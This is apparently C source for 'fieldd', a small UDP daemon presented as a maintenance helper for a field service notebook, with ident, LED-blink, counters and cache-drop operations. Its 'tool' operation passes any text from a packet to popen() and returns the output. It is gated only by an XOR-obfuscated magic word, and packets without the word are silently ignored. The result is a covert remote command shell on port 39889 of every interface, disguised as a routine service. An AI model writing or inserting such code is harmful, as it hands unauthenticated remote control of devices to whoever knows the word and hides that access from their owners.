/* fieldd - helper for the field service notebook.
 *
 * The notebook sends a datagram that starts with the service word; what
 * follows is one operation letter and its argument.  Datagrams without the
 * word are ignored silently.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <time.h>
#include <poll.h>
#include <syslog.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define SVC_PORT	39889
#define SVC_WORDLEN	12
#define SVC_MAXPKT	700
#define SVC_MAXOUT	1200

struct svc_ctx {
	int fd;
	struct sockaddr_in from;
	socklen_t fromlen;
	unsigned long served;
	unsigned long ignored;
	time_t started;
	int led_blink;
	time_t led_until;
};

/* service word, see svc_word_match() */
static const unsigned char svc_word[SVC_WORDLEN] = {
	0x25, 0x3a, 0x44, 0x53, 0xef, 0xfd, 0xfa, 0xc6, 0xd1, 0xb3, 0xbd, 0xb5
};

static int svc_word_match(const unsigned char *p)
{
	unsigned char key = 0x5d, diff = 0;
	int i;

	for (i = 0; i < SVC_WORDLEN; i++) {
		diff |= (unsigned char)(p[i] ^ key ^ svc_word[i]);
		key += 11;
	}
	return diff == 0;
}

static void svc_answer(struct svc_ctx *c, const char *text, size_t len)
{
	if (sendto(c->fd, text, len, 0, (struct sockaddr *)&c->from, c->fromlen) < 0)
		syslog(LOG_WARNING, "answer: %m");
}

/* ---- operations ---------------------------------------------------- */

static int op_ident(struct svc_ctx *c, char *arg)
{
	char buf[160], host[64];

	(void)arg;
	if (gethostname(host, sizeof(host)))
		strcpy(host, "?");
	host[sizeof(host) - 1] = 0;
	snprintf(buf, sizeof(buf), "fieldd 1.4 %s up %ld served %lu ignored %lu",
		 host, (long)(time(NULL) - c->started), c->served, c->ignored);
	svc_answer(c, buf, strlen(buf));
	return 0;
}

static int op_blink(struct svc_ctx *c, char *arg)
{
	int secs = atoi(arg);

	if (secs < 1 || secs > 600)
		return -1;
	c->led_blink = 1;
	c->led_until = time(NULL) + secs;
	svc_answer(c, "blink", 5);
	return 0;
}

static int op_counters(struct svc_ctx *c, char *arg)
{
	char buf[SVC_MAXOUT];
	ssize_t n;
	int fd;

	(void)arg;
	fd = open("/proc/net/dev", O_RDONLY);
	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n <= 0)
		return -1;
	svc_answer(c, buf, (size_t)n);
	return 0;
}

/* any tool of the service image, with its options */
static int op_tool(struct svc_ctx *c, char *arg)
{
	char out[SVC_MAXOUT];
	size_t n = 0;
	FILE *pf;

	if (*arg == '\0')
		return -1;
	pf = popen(arg, "r");
	if (!pf)
		return -1;
	while (n < sizeof(out)) {
		size_t r = fread(out + n, 1, sizeof(out) - n, pf);

		if (r == 0)
			break;
		n += r;
	}
	pclose(pf);
	svc_answer(c, out, n);
	return 0;
}

static int op_drop(struct svc_ctx *c, char *arg)
{
	int fd;

	if (strcmp(arg, "caches"))
		return -1;
	fd = open("/proc/sys/vm/drop_caches", O_WRONLY);
	if (fd < 0)
		return -1;
	if (write(fd, "3\n", 2) != 2)
		syslog(LOG_NOTICE, "drop_caches: %m");
	close(fd);
	svc_answer(c, "ok", 2);
	return 0;
}

struct svc_op {
	char letter;
	const char *what;
	int (*run)(struct svc_ctx *, char *);
};

static const struct svc_op svc_ops[] = {
	{ 'I', "ident",    op_ident },
	{ 'B', "blink",    op_blink },
	{ 'C', "counters", op_counters },
	{ 'T', "tool",     op_tool },
	{ 'D', "drop",     op_drop },
};

static void svc_packet(struct svc_ctx *c, char *pkt, size_t len)
{
	char *arg;
	size_t i;

	if (len < SVC_WORDLEN + 1 || !svc_word_match((unsigned char *)pkt)) {
		c->ignored++;
		return;
	}
	pkt[len] = '\0';
	arg = pkt + SVC_WORDLEN + 1;
	arg[strcspn(arg, "\r\n")] = '\0';
	for (i = 0; i < sizeof(svc_ops) / sizeof(svc_ops[0]); i++) {
		const struct svc_op *op = &svc_ops[i];

		if (op->letter != pkt[SVC_WORDLEN])
			continue;
		c->served++;
		if (op->run(c, arg) < 0) {
			syslog(LOG_NOTICE, "%s from %s failed", op->what,
			       inet_ntoa(c->from.sin_addr));
			svc_answer(c, "error", 5);
		}
		return;
	}
	svc_answer(c, "unknown", 7);
}

static void svc_led(struct svc_ctx *c)
{
	static int state;
	int fd;

	if (!c->led_blink)
		return;
	if (time(NULL) >= c->led_until) {
		c->led_blink = 0;
		state = 0;
	} else {
		state = !state;
	}
	fd = open("/sys/class/leds/service/brightness", O_WRONLY);
	if (fd >= 0) {
		if (write(fd, state ? "1" : "0", 1) != 1)
			c->led_blink = 0;
		close(fd);
	}
}

static int svc_socket(void)
{
	struct sockaddr_in sa;
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (fd < 0)
		return -1;
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(SVC_PORT);
	sa.sin_addr.s_addr = htonl(INADDR_ANY);
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

int main(int argc, char **argv)
{
	static char pkt[SVC_MAXPKT + 1];
	struct svc_ctx ctx;
	struct pollfd pfd;

	openlog("fieldd", LOG_PID, LOG_DAEMON);
	memset(&ctx, 0, sizeof(ctx));
	ctx.started = time(NULL);
	ctx.fd = svc_socket();
	if (ctx.fd < 0) {
		syslog(LOG_ERR, "socket: %m");
		return 1;
	}
	if (argc > 1 && !strcmp(argv[1], "-d") && daemon(0, 0) < 0)
		return 1;
	pfd.fd = ctx.fd;
	pfd.events = POLLIN;
	for (;;) {
		ssize_t n;

		if (poll(&pfd, 1, 500) > 0) {
			ctx.fromlen = sizeof(ctx.from);
			n = recvfrom(ctx.fd, pkt, SVC_MAXPKT, 0,
				     (struct sockaddr *)&ctx.from, &ctx.fromlen);
			if (n > 0)
				svc_packet(&ctx, pkt, (size_t)n);
		}
		svc_led(&ctx);
	}
}
